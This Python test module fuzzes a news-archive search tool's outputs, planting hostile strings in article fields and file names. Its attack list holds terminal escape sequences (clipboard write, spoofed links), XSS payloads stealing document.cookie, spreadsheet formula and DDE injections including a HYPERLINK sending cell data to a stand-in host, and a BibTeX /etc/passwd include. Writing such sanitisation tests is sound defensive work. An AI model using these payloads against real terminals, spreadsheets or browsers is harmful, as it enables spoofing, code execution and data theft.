"""Text that attacks who reads it, in every field of an article, in every form of output.

An archive is made of such articles, searched, listed and exported through the command line, and
each form held against its own rules. Articles attack in two ways. `direct` ones come past the
parser, which takes most attacks out: a planted reader hands them to the index as they are, so that
what is printed is safe by itself. The others stand in real files, escaped in front matter, as an
attacker would send them. Names of files, of folders and of the archive itself attack as well.
"""

from __future__ import annotations

import contextlib
import csv
import io
import json
import os
import random
import re
import tempfile
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from pathlib import Path
from xml.etree import ElementTree

import pytest
from markdown_it import MarkdownIt
from outcome import Outcome, Tally

from newssearch.article.model import Article, ArticleDate, DateSource, Paragraph, Precision
from newssearch.article.read import read_articles
from newssearch.cli.main import main

SUITE = "hostile outputs"
ATTACKS = {
    "colour": "\x1b[31mred\x1b]0;window\x07",
    "link": "\x1b]8;;https://trap.example\x1b\\bank\x1b]8;;\x1b\\",
    "clipboard": "\x1b]52;c;cm0gLXJm\x07",
    "c1": "\x9b31m\x9d0;window\x9c\x90q\x85",
    "bidi": "invoice\u202efdp.exe\u202c\u2066\u2067\u2068\u2069\u202a\u202b\u202d",
    "bidi marks": "a\u200eb\u200fc\u061cd",
    "lines": "one\ntwo\r\nthree\x0bfour\x0cfive\u2028six\u2029seven",
    "nul": "ze\x00ro",
    "bells": "back\x08\x08\x07\x7f",
    "half": "caf\udce9 \udcff",
    "high half": "caf\ud83d!",
    "html": "<script>alert(1)</script><img src=x onerror=\"a('b')\">&quot;",
    "javascript": "javascript:alert(document.cookie)",
    "data": "data:text/html;base64,PHNjcmlwdD4=",
    "xml": "]]></title></entry><!-- -- --><![CDATA[ &#8; &x;",
    "formula": '=HYPERLINK("https://trap.example/"&A1,"x")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|'x'!A0",
    "at": "@SUM(1+1)",
    "tab": "\t=1+1",
    "return": "\r=1+1",
    "feed": "\n=1+1",
    "space": "  =1+1",
    "markdown": "[x](javascript:a()) ![i](https://trap.example/i.png) `` ` # h | t | <b>",
    "bibtex": "}, x = {y}} @string{a={b}} % \\input{/etc/passwd} $#~^_",
    "ris": "a\nER  - \n\nTY  - NEWS\nT1  - forged",
    "places": "%s %n %1b {0} {title} ${HOME} $(id) `id` \\x1b \\u202e \\033[31m",
    "noncharacter": "\ufdd0\ufffe\uffff\x1e\x1f",
}

#: What no form of output may hold; line feeds are its own.
STEERS = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069\ud800-\udfff]"
)
#: What this program writes itself where colours are asked for: styles, links to files.
OURS = re.compile(r"\x1b\[\d+(?:;\d+)*m|\x1b\]8;;(?:file:///[!-~]*)?\x1b\\")
FORMULA = re.compile(r"[ \t\r\n]*[=+\-@]")
ROOT = "ne\x1b]0;window\x07ws \u202e\n<b>=1+1"
WORD = "harbour"
BROKEN = b"\xffbroken"


@dataclass(frozen=True)
class Desk:
    """An archive whose articles attack, and its index beside it."""

    folder: Path
    direct: bool


def planted(data: bytes, path: str, encodings: Sequence[str]) -> list[Article]:
    """What the parser is made to give: the attack as it is, in each field."""
    if data == BROKEN:
        return read_articles(data, path, encodings)
    number, attack, other = json.loads(data)
    attack = attack.encode("utf-8", "replace").decode()  # no parser lets halves through
    return [
        Article(
            path=path,
            title=f"{attack} {WORD} {other}",
            body=(Paragraph(1, attack), Paragraph(2, f"{attack} {WORD} no{number} {attack}.")),
            alternate_title=attack,
            keywords=(attack, f"{WORD} {attack}"),
            authors=(attack, f"Ada {attack}"),
            tags=(attack,),
            date=ArticleDate("2020-08-27", DateSource.HEADER, Precision.DAY),
            url=f"https://harbour.example/{attack}" if other else attack,
            source=attack,
            lang="zh" if other else "en",
            languages=("zh" if other else "en",),
            image=attack,
            translation_links=(path.replace("_zh.md", ".md"),) if other else (),
            extra=((attack, attack), (f"field {attack}", "plain")),
        )
    ]


def file_name(attack: str) -> bytes:
    """As much of the attack as a file system takes in a name."""
    kept = attack.replace("\0", "").replace("/", "\u2215").replace("\ud83d", "")
    return os.fsencode(kept)[:150].decode("utf-8", "ignore").encode() or b"none"


def plant_names(folder: Path, attacks: Sequence[str]) -> None:
    """A file and its translation for each attack, and one that fails, all named by it."""
    for number, attack in enumerate(attacks):
        place = os.path.join(os.fsencode(folder), b"%02d" % number + file_name(attack))
        os.mkdir(place)
        article = json.dumps((number, attack, "")).encode()
        other = json.dumps((number, attack, "zh")).encode()
        for suffix, content in ((b".md", article), (b"_zh.md", other), (b"!.md", BROKEN)):
            with open(os.path.join(place, file_name(attack) + suffix), "wb") as stream:
                stream.write(content)


def plant_files(folder: Path, attacks: Sequence[str]) -> None:
    """The attacks in real files: escaped in front matter of three forms, and bare as text."""
    for number, attack in enumerate(attacks):
        text = json.dumps(attack)
        bare = attack.encode("utf-8", "replace").decode()
        fields = {
            **dict.fromkeys(("title", "subtitle", "source", "image", "deck", "via"), attack),
            "keywords": [attack, WORD],
            "authors": [attack],
            "tags": [attack],
            f"x {attack}": attack,
            "date": attack,
            "published": "2020-08-27",
        }
        body = f"{WORD} {bare}\n\n{''.join(f'&#{ord(c)};' for c in attack)} {WORD}\n"
        forms = {
            "json": f"{json.dumps(fields)}\n\n{body}",
            "yaml": "---\n"
            + "".join(f"{json.dumps(k)}: {json.dumps(v)}\n" for k, v in fields.items())
            + f"url: https://harbour.example/{number}\ntag: !{bare!r} x\n---\n{body}",
            "toml": f"+++\ntitle = {text}\nauthors = [{text}]\n+++\n{body}",
            "layout": f"## {bare}\n\nkeywords: {bare}\n\nauthors: {bare}\n\ndate: {bare}\n\n"
            f"{bare}: {bare}\n\n[Original]({bare})\n\n{body}",
            "pelican": f"Title: {bare}\nDate: {bare}\nSource: {bare}\n{bare}: {bare}\n\n{body}",
            "bare": f"# {bare}\n\n{body}",
        }
        for form, content in forms.items():
            (folder / f"{number:02}-{form}.md").write_bytes(content.encode("utf-8", "replace"))


def build(folder: Path, direct: bool, attacks: Sequence[str] = tuple(ATTACKS.values())) -> Desk:
    root = folder / ROOT
    root.mkdir(parents=True)
    plant = plant_names if direct else plant_files
    plant(root, attacks)
    with pytest.MonkeyPatch.context() as patch:
        patch.chdir(folder)
        if direct:
            patch.setattr("newssearch.intake.read_articles", planted)
        assert main(["-q", "index", "--index", "index", ROOT, "-j", "1"]) in (0, 3)
        add = ["-q", "--index", "index", "saved", "add", "all", "--all-new"]
        assert main([*add, f'{WORD} OR "\x1b]0;window\x07\u202e=1+1"']) == 0
    return Desk(folder, direct)


# -- what holds of each form ----------------------------------------------------------------------


def is_plain(text: str) -> None:
    found = STEERS.search(text)
    assert found is None, text[max(found.start() - 40, 0) : found.end() + 40]


def is_styled(text: str) -> None:
    """Nothing steers but what we write ourselves."""
    is_plain(OURS.sub("", text).replace("\t", ""))


def is_text(text: str) -> None:
    is_plain(text)
    assert "\t" not in text


def is_tsv(text: str) -> None:
    is_plain(text)
    rows = [line.split("\t") for line in text.split("\n")[:-1]]
    assert rows
    assert len({len(row) for row in rows}) == 1


def is_csv(text: str) -> None:
    is_plain(text.replace("\r\n", "\n"))
    rows = list(csv.reader(io.StringIO(text, newline=""), strict=True))
    assert len(rows) > 1
    assert len({len(row) for row in rows}) == 1
    for row in rows[1:]:
        assert not [cell for cell in row if FORMULA.match(cell)]
    assert text.count("\n") == len(rows)


def is_json(text: str) -> None:
    is_text(text)
    json.loads(text)


def is_jsonl(text: str) -> None:
    is_text(text)
    assert [json.loads(line) for line in text.split("\n")[:-1]]


def is_xml(text: str) -> None:
    """Well-formed, nothing runs, and nothing but the web and files is led to."""
    is_text(text)
    tree = ElementTree.fromstring(text)  # noqa: S314  our own output
    for element in tree.iter():
        assert element.tag.rpartition("}")[2] not in ("script", "foreignObject", "image", "a")
        for name, value in element.attrib.items():
            assert not name.lower().startswith("on")
            assert "href" not in name or re.match("https?://", value), value


def is_markdown(text: str) -> None:
    is_text(text)
    for block in MarkdownIt("commonmark").enable(["table", "strikethrough"]).parse(text):
        assert block.type != "html_block"
        for inline in block.children or []:
            assert inline.type not in ("html_inline", "image", "s_open", "em_open")
            if inline.type == "link_open":
                assert re.match("https?://", str(inline.attrGet("href")))


def is_ris(text: str) -> None:
    text = text.replace("\r\n", "\n")
    is_text(text)
    for line in text.split("\n"):
        assert line == "" or re.match("[A-Z][A-Z0-9]  - ", line), line
    assert text.count("\nER  - ") == len(re.findall("^TY  - ", text, re.M))


def is_bibtex(text: str) -> None:
    """Braces are balanced, and entries are all that begins with @ outside them."""
    is_text(text)
    depth = 0
    for line in text.split("\n"):
        for sign in re.sub(r"\\.", "", line):
            depth += (sign == "{") - (sign == "}")
            assert depth >= 0, line
        assert depth or not line.startswith("@") or line.endswith("}"), line
    assert depth == 0
    assert set(re.findall("^@(\\w+)", text, re.M)) <= {"article", "comment"}


def is_lines(text: str) -> None:
    is_text(text)
    assert text


Check = Callable[[str], None]
EVERY = ("--no-collapse", "--limit", "all")
EXPORTS: dict[str, Check] = {
    "csv": is_csv,
    "jsonl": is_jsonl,
    "ris": is_ris,
    "bibtex": is_bibtex,
    "csl-json": is_json,
    "md": is_markdown,
}
FACETS = ("source", "author", "keyword", "tag", "lang", "kind", "year")
FORMS: list[tuple[tuple[str, ...], Check]] = [
    (("query", WORD, *EVERY), is_tsv),
    (("query", WORD, *EVERY, "--format", "text"), is_text),
    (("query", WORD, *EVERY, "--format", "table"), is_text),
    (("query", WORD, *EVERY, "--format", "csv"), is_csv),
    (("query", WORD, *EVERY, "--format", "trec"), is_lines),
    (("query", WORD, *EVERY, "--format", "{title}|{url}|{source}|{file}|{snippet}"), is_lines),
    (("query", WORD, *EVERY, "--format", "{authors} {keywords} {path}"), is_lines),
    (("query", WORD, *EVERY, "--json"), is_json),
    (("query", WORD, *EVERY, "--json", *(f"--facet={name}" for name in FACETS)), is_json),
    (("query", WORD, *EVERY, "--jsonl"), is_jsonl),
    (("query", WORD, *EVERY, "--ids"), is_lines),
    (("query", WORD, "--count"), is_lines),
    (("query", WORD, "--explain", *(f"--facet={name}" for name in FACETS)), is_tsv),
    *(((*("export", WORD, "--no-collapse", "--format"), form), EXPORTS[form]) for form in EXPORTS),
    *((("facets", name, "--limit", "all"), is_tsv) for name in FACETS),
    *((("facets", name, "--limit", "all", "--csv"), is_csv) for name in FACETS[:4]),
    *((("facets", name, "--limit", "all", "--json"), is_json) for name in FACETS[:4]),
    (("timeline", WORD), is_tsv),
    (("timeline", WORD, "--csv"), is_csv),
    (("timeline", WORD, "--json"), is_json),
    (("timeline", WORD, "--svg", "-"), is_xml),
    (("stats",), is_text),
    (("stats", "--json"), is_json),
    (("suggest", "har", "-n", "1000"), is_lines),
    (("suggest", "a", "-n", "1000"), is_lines),
    (("saved", "list"), is_tsv),
    (("saved", "list", "--json"), is_json),
    (("saved", "run", "--format", "text"), is_text),
    (("saved", "run", "--format", "tsv"), is_tsv),
    (("saved", "run", "--json"), is_json),
    (("saved", "run", "--jsonl"), is_jsonl),
    (("saved", "run", "--atom"), is_xml),
    (("completion", "bash"), is_lines),
]


# -- in the long form ------------------------------------------------------------------------------


def soak(trials: int, seed: int) -> Outcome:
    """Archives of attacks made at random; a trial is a form of output of one of them."""
    chance, tally = random.Random(seed), Tally(SUITE)
    with pytest.MonkeyPatch.context() as patch, tempfile.TemporaryDirectory() as folder:
        for name in ("NO_COLOR", "NEWSSEARCH_INDEX", "COLUMNS", "XDG_CONFIG_HOME", "HOME"):
            patch.delenv(name, raising=False)
        number = 0
        while tally.trials < trials:
            number += 1
            attacks = [made_up(chance) for _ in range(8)]
            forms = chance.sample(FORMS, min(len(FORMS), trials - tally.trials))
            with contextlib.redirect_stderr(io.StringIO()):
                desk = build(Path(folder, str(number)), bool(number % 2), attacks)
            for arguments, check in forms:
                tally.trial()
                color = ("--color", chance.choice(("auto", "never")))
                try:
                    hold(desk, (*color, "--index", "index", *arguments), check)
                except AssertionError as error:
                    tally.wrong("silent", f"{seed}: {arguments} of {attacks}: {error}")
                except Exception as error:  # noqa: BLE001  any other is what is looked for
                    tally.wrong("crashes", f"{seed}: {arguments} of {attacks}: {error!r}")
    return tally.outcome()


def made_up(chance: random.Random) -> str:
    """An attack of pieces of the others, and of characters of any kind."""
    pieces: list[str] = []
    for _ in range(chance.choice((1, 2, 4))):
        attack = chance.choice(tuple(ATTACKS.values()))
        first = chance.randrange(len(attack))
        pieces.append(attack[first : first + chance.choice((1, 4, 40))])
        pieces.append(
            chr(chance.choice((chance.randrange(0x100), chance.randrange(0x2000, 0x2070))))
        )
    return "".join(pieces)


def hold(desk: Desk, arguments: Sequence[str], check: Check) -> None:
    """Hold what the program writes against the rules of its form."""
    out, said = io.TextIOWrapper(io.BytesIO(), "utf-8"), io.StringIO()
    streams = contextlib.redirect_stdout(out), contextlib.redirect_stderr(said)
    with contextlib.chdir(desk.folder), streams[0], streams[1]:
        status = main(arguments)
    assert status in (0, 1), said.getvalue()
    assert "Traceback" not in said.getvalue()
    assert STEERS.search(said.getvalue()) is None, said.getvalue()
    written = out.buffer.getvalue().decode()  # type: ignore[attr-defined]
    if status == 0:
        check(written)
